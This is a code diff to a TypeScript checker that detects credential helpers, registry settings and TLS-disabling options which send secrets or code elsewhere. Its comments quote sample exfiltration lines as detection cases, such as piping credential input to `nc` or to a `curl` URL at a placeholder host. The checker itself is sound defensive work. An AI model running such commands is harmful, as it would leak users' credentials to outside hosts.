@@ -52,8 +52,14 @@ export const OFF = /^(false|no|off|0)$/i;
  * a sink's words (`!curl "https://x/?$(cat)"`); null when it does neither (`!gh auth
  * git-credential`, `!f() { echo password=$T; }; f`).
  */
-export function helperKeeps(line: string): string | null {
+export function helperKeeps(line: string, depth = 0): string | null {
   for (const cmd of parseShell(line, { home: '', depth: 1 }).commands) {
+    // `sh -c 'cat | nc h p'`: the shell line it runs, read the same way
+    const nested = depth < 4 ? unwrap(cmd).scripts : [];
+    for (const s of nested) {
+      const kept = helperKeeps(s, depth + 1);
+      if (kept) return kept;
+    }
     const written = cmd.redirects.find((r) => /^(&?>>?|>\||<>)$/.test(r.op) && r.target && !/^\/dev\/(null|stdout|stderr|fd\/[12])$/.test(r.target.value));
     if (written?.target && networkPath(written.target.value)) return `sends them to ${written.target.value}`;
     if (written?.target) return `writes them into ${written.target.value}`;
@@ -68,10 +74,11 @@ export function helperKeeps(line: string): string | null {
 
 /** The finding for a setting that sends credentials or code elsewhere: the rule, and why. */
 export function transportFinding(
-  rule: 'network.tlsOff' | 'network.plainHttp' | 'network.redirect' | 'network.credentialHelper',
+  rule: 'network.tlsOff' | 'network.plainHttp' | 'network.redirect' | 'network.credentialHelper' | 'network.contentFilter',
   what: string,
 ): TransportFinding {
   const why: Record<typeof rule, string> = {
+    'network.contentFilter': "git hands a filter the content of every file it stages or checks out: the project's code and any secret among its files",
     'network.tlsOff': 'with TLS checks off, any machine on the way can answer for the host and read the credentials sent to it',
     'network.plainHttp': 'over plain http, what is installed comes from whoever is on the way, and the token sent with it goes to them',
     'network.redirect': 'every later fetch and push of that host goes to another one, the code and the credentials with them',
@@ -83,12 +90,16 @@ export function transportFinding(
 /** A package manager's setting (key lower-cased) and what makes its value send credentials or code elsewhere. */
 const PACKAGE_SETTINGS: Array<[RegExp, (value: string) => 'network.tlsOff' | 'network.plainHttp' | null]> = [
   // npm, pnpm, yarn 1 `registry` and `@scope:registry`; yarn 2+ `npmRegistryServer`; pip's index URLs
+  // bun's `install.registry`; gem's sources, bundler's `mirror.<source>`, composer's `repos.<name>`, Go's `GOPROXY`, conda's `channel_alias`
   [
-    /^(registry|@[^:]+:registry|npmregistryserver|((global|install|download|search|index)\.)?(extra-)?index(-url)?)$/,
-    (v) => (plainHttpElsewhere(v) ? 'network.plainHttp' : null),
+    /^((install\.)?registry|@[^:]+:registry|npmregistryserver|((global|install|download|search|index)\.)?(extra-)?index(-url)?|source|mirror\..+|(repos|repositories)\..+|goproxy|channel_alias)$/,
+    (v) => (v.split(/[\s,|'"{}]+/).some(plainHttpElsewhere) ? 'network.plainHttp' : null),
   ],
-  // npm `strict-ssl`, yarn 2+ `enableStrictSsl`, conda `ssl_verify`, composer `secure-http`
-  [/^(strict-ssl|enablestrictssl|ssl_verify|secure-http)$/, (v) => (OFF.test(v) ? 'network.tlsOff' : null)],
+  // npm `strict-ssl`, yarn 2+ `enableStrictSsl`, conda `ssl_verify`, composer `secure-http`, bundler's `ssl_verify_mode` (0: none)
+  [/^(strict-ssl|enablestrictssl|ssl_verify|secure-http|ssl_verify_mode)$/, (v) => (OFF.test(v) ? 'network.tlsOff' : null)],
+  // Go's `GOINSECURE` (modules fetched without TLS checks, or over http) and `-insecure` in `GOFLAGS`
+  [/^goinsecure$/, (v) => (v ? 'network.tlsOff' : null)],
+  [/^goflags$/, (v) => (/(^|\s)-insecure\b/.test(v) ? 'network.tlsOff' : null)],
   // pip's `trusted-host`: no TLS check for the hosts it names
   [/^((global|install|download)\.)?trusted-host$/, (v) => (v ? 'network.tlsOff' : null)],
 ];
@@ -105,7 +116,12 @@ function packageSettings(program: string, args: readonly string[]): Array<[strin
   } else if (p === 'conda' && words[0] === 'config') {
     const at = a.indexOf('--set');
     if (at >= 0) pairs = a.slice(at + 1, at + 3);
-  } else if (p === 'composer' && words[0] === 'config') pairs = words.slice(1, 3);
+  } else if (p === 'composer' && words[0] === 'config') {
+    // `composer config repos.x composer http://…`: a repository's type and URL (or its JSON) after its key
+    pairs = /^(repos|repositories)\./i.test(words[1] ?? '') ? [words[1]!, words.slice(2).join(' ')] : words.slice(1, 3);
+  } else if (p === 'gem' && words[0] === 'sources') pairs = ['source', optionValue(a, '--add', '-a')];
+  else if (p === 'bundle' && words[0] === 'config') pairs = words.slice(words[1] === 'set' ? 2 : 1, words[1] === 'set' ? 4 : 3);
+  else if (p === 'go' && words[0] === 'env' && a.includes('-w')) pairs = words.slice(1);
   const out: Array<[string, string]> = [];
   for (let i = 0; i < pairs.length; i++) {
     const kv = /^([\w@:.-]+)=(.*)$/s.exec(pairs[i]!);
@@ -113,6 +129,20 @@ function packageSettings(program: string, args: readonly string[]): Array<[strin
     else out.push([pairs[i]!.toLowerCase(), pairs[++i] ?? '']);
   }
   return out;
+}
+
+/** The value of an option given as `--add URL`, `--add=URL` or `-a URL`; '' when it is not given. */
+function optionValue(args: readonly string[], long: string, short: string): string {
+  for (let i = 0; i < args.length; i++) {
+    if (args[i] === long || args[i] === short) return args[i + 1] ?? '';
+    if (args[i]!.startsWith(`${long}=`)) return args[i]!.slice(long.length + 1);
+  }
+  return '';
+}
+
+/** The rule a package manager's setting (`key` lower-cased) breaks with `value`: plain http to a registry, TLS checks off; null for none. */
+export function packageSettingRule(key: string, value: string): 'network.tlsOff' | 'network.plainHttp' | null {
+  return PACKAGE_SETTINGS.find(([k]) => k.test(key))?.[1](value) ?? null;
 }
 
 /** Variables every later program reads: those that turn TLS checks off, and those naming a registry or index. */
@@ -124,6 +154,8 @@ const VARIABLES: Record<string, (value: string) => 'network.tlsOff' | 'network.p
   npm_config_strict_ssl: (v) => (OFF.test(v) ? 'network.tlsOff' : null),
   YARN_ENABLE_STRICT_SSL: (v) => (OFF.test(v) ? 'network.tlsOff' : null),
   PIP_TRUSTED_HOST: (v) => (v ? 'network.tlsOff' : null),
+  GOINSECURE: (v) => (v ? 'network.tlsOff' : null),
+  GOFLAGS: (v) => (/(^|\s)-insecure\b/.test(v) ? 'network.tlsOff' : null),
   ...Object.fromEntries(
     [
       'NPM_CONFIG_REGISTRY',
@@ -136,6 +168,7 @@ const VARIABLES: Record<string, (value: string) => 'network.tlsOff' | 'network.p
       'UV_EXTRA_INDEX_URL',
       'UV_DEFAULT_INDEX',
       'UV_INDEX',
+      'GOPROXY',
     ].map((name) => [name, (v: string) => (plainHttpElsewhere(v) ? 'network.plainHttp' : null)]),
   ),
 };
@@ -157,7 +190,7 @@ export function checkTransportSettings(cmd: SimpleCommand, inv: Invocation | nul
     inv.program,
     inv.args.map((w) => w.value),
   )) {
-    const rule = PACKAGE_SETTINGS.find(([k]) => k.test(key))?.[1](value) ?? null;
+    const rule = packageSettingRule(key, value);
     if (rule) return transportFinding(rule, `\`${inv.program}\` sets \`${key}\` to \`${value}\` for every later install`);
   }
   return null;
